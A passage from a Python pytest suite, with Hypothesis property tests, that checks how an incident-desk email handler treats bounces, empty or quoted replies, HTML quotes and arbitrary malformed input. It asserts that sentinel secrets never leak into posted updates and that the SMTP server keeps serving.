    code, _ = inbound.send(reply(f"Written by a person ({header})", **{name: value}), address)
    assert code == 250
    assert texts(incident) == [f"Written by a person ({header})"]
    assert posted(incident, "auto-reply") == []
    still_serves(inbound, address, incident)


# ------------------------------------------------------------------ bounces

def dsn(failed: str, action: str = "failed") -> bytes:
    return (
        "From: Mail Delivery System <MAILER-DAEMON@mx.example.org>\r\n"
        "To: incidents@example.org\r\nSubject: Undelivered Mail Returned to Sender\r\n"
        "MIME-Version: 1.0\r\nMessage-ID: <dsn-" + str(next(_ids)) + "@mx.example.org>\r\n"
        'Content-Type: multipart/report; report-type=delivery-status; boundary="R"\r\n\r\n'
        "--R\r\nContent-Type: text/plain\r\n\r\nI'm sorry to have to inform you that your "
        "message could not be delivered. BOUNCE-TEXT-LEAK\r\n"
        "--R\r\nContent-Type: message/delivery-status\r\n\r\n"
        "Reporting-MTA: dns; mx.example.org\r\n\r\n"
        f"Final-Recipient: rfc822; {failed}\r\nOriginal-Recipient: rfc822;{failed}\r\n"
        f"Action: {action}\r\nStatus: 5.1.1\r\n"
        "Diagnostic-Code: smtp; 550 5.1.1 user unknown\r\n\r\n"
        "--R\r\nContent-Type: message/rfc822\r\n\r\n"
        "From: Incident Desk <incidents@example.org>\r\nTo: ana@example.org\r\n"
        "Subject: [INC-1] ISC Learn Platform: outage\r\n\r\nORIGINAL-UPDATE-LEAK\r\n"
        "--R--\r\n"
    ).encode()


@pytest.mark.parametrize("mail_from", ["", "postmaster@mx.example.org"])
def test_a_dsn_is_recorded_against_its_recipient(app, sink, incident, inbound, address,
                                                 mail_from) -> None:
    code, answer = inbound.send(dsn("ops-team@example.org"), address, mail_from=mail_from)
    assert code == 250 and b"bounce recorded" in answer, answer
    assert posted(incident) == []
    statuses = {r.email: r.status for r in Recipient.select()}
    assert statuses == {"ana@example.org": "active", "ops-team@example.org": "bounced",
                        "student-council@example.org": "active"}
    assert "LEAK" not in " ".join(e.text for e in Entry.select())
    still_serves(inbound, address, incident)


def test_a_delayed_dsn_bounces_nobody(app, sink, incident, inbound, address) -> None:
    code, _ = inbound.send(dsn("ops-team@example.org", action="delayed"), address, mail_from="")
    assert code == 250
    assert posted(incident) == []
    assert {r.status for r in Recipient.select()} == {"active"}
    still_serves(inbound, address, incident)


def test_exim_style_x_failed_recipients(app, sink, incident, inbound, address) -> None:
    raw = raw_reply(b"This message was created automatically by mail delivery software.\r\n"
                    b"BOUNCE-TEXT-LEAK\r\n",
                    b"X-Failed-Recipients: student-council@example.org\r\n",
                    sender=b"Mail Delivery System <Mailer-Daemon@mx.example.org>")
    assert inbound.send(raw, address, mail_from="")[0] == 250
    assert posted(incident) == []
    assert Recipient.get(Recipient.email == "student-council@example.org").status == "bounced"
    still_serves(inbound, address, incident)


# ------------------------------------------------------------------ empty replies

@pytest.mark.parametrize("body", [
    pytest.param("", id="empty"),
    pytest.param("\n \n\t\n", id="blank"),
    pytest.param("On Tue, 24 Nov 2026 at 10:00, Incident Desk <incidents@example.org> wrote:\n"
                 "> INCIDENT INC-1 (P1, complete downtime)\n> QUOTED-LEAK\n", id="only-quoted"),
    pytest.param("> QUOTED-LEAK one\n> > QUOTED-LEAK two\n", id="only-quote-marks"),
    pytest.param("-----Original Message-----\nFrom: Incident Desk\nSent: Tuesday\n\n"
                 "QUOTED-LEAK\n", id="only-outlook-history"),
    pytest.param("\n-- \nBob Stone\nSIGNATURE-LEAK\n", id="only-signature"),
    pytest.param("\u200b\ufeff\x00\x07\n", id="only-invisible"),
])
def test_nothing_to_post(app, sink, incident, inbound, address, body) -> None:
    msg = reply("x")
    msg.set_content(body)
    code, answer = inbound.send(msg, address)
    assert code == 250 and b"nothing to post" in answer, answer
    assert posted(incident) == []
    assert len(posted(incident, "empty")) == 1
    assert "LEAK" not in " ".join(e.text for e in Entry.select())
    still_serves(inbound, address, incident)


def test_no_body_at_all(app, sink, incident, inbound, address) -> None:
    raw = raw_reply(b"").rstrip(b"\r\n") + b"\r\n"  # headers only, not even a blank line
    assert inbound.send(raw, address)[0] == 250
    assert posted(incident) == []
    still_serves(inbound, address, incident)


# ------------------------------------------------------------------ properties

_WITH_FIXTURES = settings(deadline=None, suppress_health_check=[
    HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
_SMTP_ANSWER = re.compile(r"^[245]\d\d [\x20-\x7e]*$")  # one line of 7-bit ASCII

# Own words: no ":" (no commands), no "w"/"v" (neither "wrote" nor "send now" nor
# "resolved" can appear), no ">" (no quotes), no "-" (no signature markers).
_OWN = st.text(alphabet="abcdefghijklmnopqrstuxyz ABCDEFGHIJKLMNOPQRSTUXYZ.,\n", min_size=1,
               max_size=200).filter(lambda s: re.search(r"[A-Za-z]", s) is not None)
_SECRETS = ["QUOTEDSECRET", "PASSWORD1234", "OLDTOKEN9876"]
_QUOTED = st.lists(st.one_of(st.sampled_from(_SECRETS), st.text(max_size=30)), max_size=8)
_ATTRIBUTION = "\n\nOn Mon, 1 Jan 2026 at 10:00, Incident Desk <incidents@example.org> wrote:\n"
_HEADER_TEXT = st.text(max_size=60)  # any code point, control characters and CR/LF included
_HEADER_NAMES = st.sampled_from(["Subject", "X-Anything", "Comments", "Keywords", "Reply-To",
                                 "Cc", "References", "In-Reply-To", "Thread-Topic"])


def _norm(text: str) -> str:
    return " ".join(text.split())


def _quoted_body(quoted: list[str]) -> str:
    # Every line a mail client would show gets its "> " (a lone CR breaks a line too):
    # unquoted text below a quote is a bottom-posted answer, and is kept.
    return "".join(f"> {q}\n" for q in re.split(r"\r\n|\r|\n", "\n".join(quoted)))


def _message(own: str, quoted: list[str], headers: list[tuple[str, str]], name: str,
             base64_body: bool) -> bytes:
    body = (own + _ATTRIBUTION + _quoted_body(quoted)).encode("utf-8")
    encoded_name = base64.b64encode(name.encode("utf-8", "surrogatepass")).decode()
    head = (f"From: =?utf-8?b?{encoded_name}?= <bob@example.org>\r\n"
            f"Message-ID: <prop-{next(_ids)}-{time.monotonic_ns()}@client.example>\r\n"
            "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n"
            f"Content-Transfer-Encoding: {'base64' if base64_body else '8bit'}\r\n").encode()
    extra = b"".join(k.encode() + b": " + v.encode("utf-8", "surrogatepass") + b"\r\n"
                     for k, v in headers)
    return head + extra + b"\r\n" + (base64.encodebytes(body) if base64_body else body)


def _data(inbound: Inbound, raw: bytes, rcpt: str, mail_from: str = "bob@example.org") -> str:
    """The DATA step of the real handler without the socket; any exception fails the test
    (handle_DATA would turn it into a 451 and hide it)."""
    envelope = Envelope()
    envelope.mail_from = mail_from
    envelope.rcpt_tos = [rcpt]
    envelope.original_content = raw
    return inbound.handler._data(envelope)


def _envelope(raw: bytes, rcpt: str, mail_from: str) -> Envelope:
    envelope = Envelope()
    envelope.mail_from, envelope.rcpt_tos, envelope.original_content = mail_from, [rcpt], raw
    return envelope


@settings(_WITH_FIXTURES, max_examples=80)
@given(_OWN, _QUOTED, st.lists(st.tuples(_HEADER_NAMES, _HEADER_TEXT), max_size=5), _HEADER_TEXT,
       st.booleans())
def test_property_own_text_only_through_the_handler(app, sink, incident, inbound, address,
                                                    own, quoted, headers, name, b64) -> None:
    raw = _message(own, quoted, headers, name, b64)
    last = Entry.select().order_by(Entry.id.desc()).first()
    answer = _data(inbound, raw, address)
    assert _SMTP_ANSWER.match(answer), answer
    new = list(Entry.select().where(Entry.id > last.id))
    for entry in new:
        assert entry.author in ("bob@example.org", "mailflow"), entry.author
        for secret in _SECRETS:
            assert secret not in entry.text, (entry.kind, entry.text)
    structure_kept = not any(c in v for _, v in headers for c in "\r\n")
    if structure_kept:  # a CR/LF in a header value is the sender rewriting their own MIME
        assert answer.startswith("250"), answer
        updates = [e for e in new if e.kind == "update"]
        assert len(updates) <= 1
        for entry in updates:
            assert entry.author == "bob@example.org"
            assert _norm(entry.text) in _norm(own), (entry.text, own)


@settings(_WITH_FIXTURES, max_examples=200)
@given(st.binary(max_size=2000),
       st.one_of(st.just("bob@example.org"), st.just(""), _HEADER_TEXT))
def test_property_arbitrary_bytes_through_the_handler(app, sink, incident, inbound, address,
                                                      raw, mail_from) -> None:
    answer = _data(inbound, raw, address, mail_from)
    assert _SMTP_ANSWER.match(answer), answer
    assert asyncio.run(inbound.handler.handle_DATA(None, None, _envelope(raw, address, mail_from))
                       )[:1] in "245"
    assert_clean(parse_reply(raw, envelope_from=mail_from))


@settings(_WITH_FIXTURES, max_examples=150)
@given(_OWN, _QUOTED, st.sampled_from(["gmail", "blockquote", "outlook"]))
def test_property_html_quotes_never_leak(own, quoted, client) -> None:
    quoted_html = html.escape("\n".join(quoted)).replace("\n", "<br>")
    own_html = html.escape(own).replace("\n", "<br>")
    history = {
        "gmail": f'<div class="gmail_quote">On Mon, 1 Jan 2026 at 10:00, X &lt;x@example.org&gt;'
                 f" wrote:<br><blockquote>{quoted_html}</blockquote></div>",
        "blockquote": f'<blockquote type="cite">{quoted_html}</blockquote>',
        "outlook": f'<div id="divRplyFwdMsg"><b>From:</b> X<br>{quoted_html}</div>',
    }[client]
    body = f"<html><body><div>{own_html}</div>{history}</body></html>".encode()
    result = parse_reply(raw_reply(body, b"Content-Type: text/html; charset=utf-8\r\n"))
    assert_clean(result)
    assert not any(secret in result.text for secret in _SECRETS)
    assert _norm(result.text) in _norm(own), (result.text, own)


@settings(_WITH_FIXTURES, max_examples=400)
@given(st.lists(st.tuples(st.sampled_from(["From", "Subject", "Message-ID", "Content-Type",
                                            "Content-Transfer-Encoding", "Auto-Submitted",
                                            "Precedence", "X-Failed-Recipients",
                                            "Content-Disposition", "Return-Path"]),
                          _HEADER_TEXT), max_size=8),
       st.binary(max_size=500), st.one_of(st.none(), st.text(max_size=20)))
def test_property_parse_reply_never_raises(headers, body, envelope_from) -> None:
    raw = b"".join(k.encode() + b": " + v.encode("utf-8", "surrogatepass") + b"\r\n"
                   for k, v in headers) + b"\r\n" + body
    result = parse_reply(raw, envelope_from=envelope_from)
    assert_clean(result)
    if result.sender:
        assert re.fullmatch(r"[^\s@<>]+@[^\s@<>]+", result.sender), result.sender


@settings(_WITH_FIXTURES, max_examples=12)
@given(st.binary(max_size=3000))
def test_property_arbitrary_bytes_through_the_real_server(app, sink, incident, inbound,
                                                          address, raw) -> None:
    code, answer = inbound.send(raw, address)
    assert code == 250 or 400 <= code < 600, (code, answer)
    assert code != 451, "an unexpected exception in the handler"
    for secret in _SECRETS:
        assert all(secret not in t for t in texts(incident))
    with smtplib.SMTP("127.0.0.1", inbound.server.port, timeout=10) as smtp:
        assert smtp.noop()[0] == 250, "the server still serves"


_LOCAL_PART = st.text(min_size=1, max_size=24).filter(lambda s: "\r" not in s and "\n" not in s)


@settings(_WITH_FIXTURES, max_examples=60)
@given(_LOCAL_PART, st.sampled_from(["example.org", "evil.example", "ex\u00e4mple.org"]))
def test_property_any_from_address_gets_a_valid_answer(app, sink, incident, inbound,
                                                       address, local, domain) -> None:
    sender = f"<{local}@{domain}>".encode("utf-8", "surrogatepass")
    last = Entry.select().order_by(Entry.id.desc()).first()
    answer = _data(inbound, raw_reply(b"PASSWORD1234? no: hello\r\n", sender=sender), address)
    assert _SMTP_ANSWER.match(answer), answer  # 7-bit: aiosmtpd cannot send anything else
    result = parse_reply(raw_reply(b"x", sender=sender))
    new = [e for e in Entry.select().where(Entry.id > last.id) if e.kind == "update"]
    if result.sender != "bob@example.org":
        assert new == [] and answer.startswith("550"), (result.sender, answer)
